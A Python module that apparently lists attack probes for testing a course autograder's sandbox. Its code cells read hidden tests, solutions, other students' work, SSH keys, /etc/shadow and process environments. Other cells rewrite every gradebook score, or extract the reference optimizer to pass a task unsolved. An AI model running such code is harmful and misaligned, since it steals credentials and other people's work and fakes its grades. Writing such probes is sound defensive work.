"""Attacks that read: tests, solutions, references, the gradebook, other people's work."""

from __future__ import annotations

from attack_form import LAZY, Attack


def reads(path: str) -> str:
    """Return a cell that prints a file, or all files that match."""
    return (
        f"import glob\nfor name in glob.glob({path!r}, recursive=True) or [{path!r}]:\n"
        "    print(open(name, errors='replace').read())"
    )


_SQL = """
import sqlite3
for mode in ('ro', 'rw'):
    book = sqlite3.connect('file:@ROOT@/gradebook.db?mode=' + mode, uri=True)
    print(book.execute('select * from student').fetchall())
    book.execute('update grade set auto_score = 10, manual_score = 10')
    book.commit()
"""
_PARENT = """
import os
for pid in (os.getppid(), 1, *range(2, 40)):
    for name in ('environ', 'cmdline', 'maps', 'fd', 'root', 'cwd'):
        try: print(open(f'/proc/{pid}/{name}', 'rb').read())
        except IsADirectoryError: print(os.listdir(f'/proc/{pid}/{name}'))
        except OSError as error: print(error)
"""
_ENVIRONMENT = """
import os, ctypes
print(dict(os.environ))
rows = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
i = 0
while rows and rows[i]:
    print(rows[i]); i += 1
"""
_OPEN_AT = """
import os
for folder in ('/proc/self/root', '/proc/self/cwd', '/dev/fd', '..', '../..'):
    try: print(os.listdir(folder), open(folder + '@ROOT@/grading-seeds.toml').read())
    except OSError as error: print(error)
for number in range(0, 64):
    try: print(open(os.open('@ROOT@'.lstrip('/'), os.O_RDONLY, dir_fd=number)).read())
    except OSError: pass
print(open('@ROOT@/grading-seeds.toml').read())
"""

FILES = (
    Attack("tests-of-notebook", "reads the hidden tests and solved notebooks",
           top=reads("@ROOT@/solutions/**/*.ipynb"), loots=True),
    Attack("exercises-file", "reads the lessons' references, criteria and probes",
           top=reads("@PROJECT@/lessons/momentum/*.py")),
    Attack("gradebook", "reads and rewrites the gradebook", top=_SQL, loots=True),
    Attack("other-students", "reads what the others handed in",
           top=reads("@ROOT@/submitted/**/*.ipynb"), loots=True),
    Attack("marked-notebooks", "reads the notebooks that are marked already",
           top=reads("@ROOT@/autograded/**/*")),
    Attack("seeds", "reads the seed of the hidden probes, through every folder it can name",
           top=_OPEN_AT, loots=True),
    Attack("environment", "prints the secrets in the marker's environment", top=_ENVIRONMENT),
    Attack("parent-process", "reads environment, memory and files of other processes",
           top=_PARENT),
    Attack("home", "reads keys and settings in home folders",
           top="from pathlib import Path\nimport os\n"
           "for home in ('@ROOT@/home', '/root', os.path.expanduser('~')):\n"
           "    try: print([p.read_text() for p in Path(home).rglob('*') if p.is_file()])\n"
           "    except OSError as error: print(error)\n"
           + reads("@ROOT@/home/.ssh/id"), loots=True),
    Attack("system-files", "reads passwords, mounts and kernel settings",
           top="\n".join(f"try: print(open({name!r}).read())\nexcept OSError as e: print(e)"
                         for name in ("/etc/shadow", "/etc/passwd", "/proc/mounts",
                                      "/proc/kallsyms", "/dev/mem", "/proc/1/environ"))),
)  # fmt: skip

_FORWARDS = LAZY.replace("pass", "self.o = Real(lr, momentum)", 1).replace(
    "pass", "self.o.update(params, grads)", 1
)

REFERENCES = (
    Attack("import-from", "takes the course's own Momentum under its own name",
           answer="from course_lib.optimizers import Momentum"),
    Attack("wrap", "hands every call on to the course's own Momentum",
           answer="from course_lib.optimizers.momentum import Momentum as Real\n" + _FORWARDS),
    Attack("inherit", "inherits from the course's own Momentum",
           answer="import course_lib.optimizers as o\nclass Momentum(o.Momentum): pass"),
    Attack("importlib", "imports the reference by its file, around the usual import",
           answer="import importlib.util as u\ns = u.spec_from_file_location('m', "
           "'@PROJECT@/course_lib/optimizers/momentum.py')\nm = u.module_from_spec(s)\n"
           "s.loader.exec_module(m)\nMomentum = m.Momentum"),
    Attack("fresh-import", "forgets all modules and finders, and imports the package anew",
           answer="import sys\nfor n in [n for n in sys.modules if n.startswith('course_lib')]:\n"
           "    del sys.modules[n]\nsys.meta_path[:] = [f for f in sys.meta_path if "
           "'_Finder' not in type(f).__name__]\nsys.path.insert(0, '@PROJECT@')\n"
           "from course_lib.optimizers import Momentum"),
    Attack("autograder-course", "asks the engine for the exercise and its solution",
           answer="from autograder import course\ne = course.exercise('momentum.Momentum')\n"
           "exec(e.solution)\nMomentum = e.reference"),
    Attack("lessons-module", "imports the lesson's exercises",
           answer="from lessons.momentum.exercises import EXERCISES\n"
           "Momentum = EXERCISES[0].reference"),
    Attack("mine-and-solution", "asks the course's own verbs for a solution",
           answer="from autograder import mine, solution\nprint(solution('momentum.Momentum', "
           "sure=True))\nReal = mine('momentum.Momentum')\n" + _FORWARDS),
    Attack("gc-objects", "searches all objects in memory for a Momentum that works",
           answer="import gc\nReal = [c for c in gc.get_objects() if isinstance(c, type) and "
           "c.__name__ == 'Momentum'][0]\n" + _FORWARDS),
    Attack("gc-texts", "searches all texts in memory for the solution, and runs what it finds",
           answer="import gc\nfound = []\nfor held in gc.get_objects():\n"
           "    parts = held.values() if isinstance(held, dict) else held\n"
           "    if isinstance(held, (list, tuple, dict)):\n"
           "        found += [t for t in parts if type(t) is str and 'class Mom' 'entum' in t "
           "and 'self.v[' 'key]' in t]\nprint(found)\nexec(found[0])"),
    Attack("code-objects", "searches all functions in memory for the reference's code",
           answer="import gc, types\nReal = None\nfor f in gc.get_objects():\n"
           "    if isinstance(f, types.FunctionType) and f.__name__ == 'update' and "
           "'momentum' in f.__code__.co_names:\n        print(f.__qualname__)\n"
           "        up = f\n"
           + LAZY.replace("pass", "self.lr, self.momentum, self.v = lr, momentum, {}", 1)
           + "\nMomentum.update = up"),
    Attack("getsource", "asks inspect for the reference's text and runs it",
           answer="import inspect, course_lib.optimizers as o\n"
           "exec(inspect.getsource(o.Momentum))"),
    Attack("subclasses", "walks all subclasses of object to the course's optimizers",
           answer="def walk(c):\n    for s in type.__subclasses__(c):\n        yield s\n"
           "        yield from walk(s) if s is not type else ()\n"
           "Real = next(c for c in walk(object) if c.__name__ == 'Momentum')\n" + _FORWARDS),
    Attack("loader-data", "asks every loader for the text or the code of the module",
           answer="import sys, pkgutil, zipimport\nfor f in sys.meta_path:\n"
           "    print(getattr(f, '_sources', {}).get('course_lib.optimizers.momentum'))\n"
           "m = sys.modules['course_lib.optimizers.momentum']\n"
           "exec(m.__loader__._sources[m.__name__][0])\n"
           "print(pkgutil.get_data('course_lib', 'optimizers/momentum.py'))"),
    Attack("other-optimizer", "builds Momentum from another optimizer of the course",
           answer="from course_lib.optimizers import Nesterov as Real\n" + _FORWARDS),
    Attack("anonymous", "takes one of the nameless optimizers that a lesson draws",
           answer="from course_lib.anonymous import five_optimizers\n"
           "Real = type(five_optimizers()['B']())\n" + _FORWARDS),
    Attack("bytecode", "reads compiled files and installed copies of the package",
           answer="import marshal, glob, sysconfig\nsite = sysconfig.get_path('purelib')\n"
           "names = glob.glob('@PROJECT@/**/__pycache__/momentum*.pyc', recursive=True)\n"
           "names += glob.glob(site + '/**/*momentum*', recursive=True)\nprint(names)\n"
           "exec(marshal.loads(open((names or ['@PROJECT@/course_lib/optimizers/__pycache__/"
           "momentum.cpython-311.pyc'])[0], 'rb').read()[16:]))"),
)  # fmt: skip
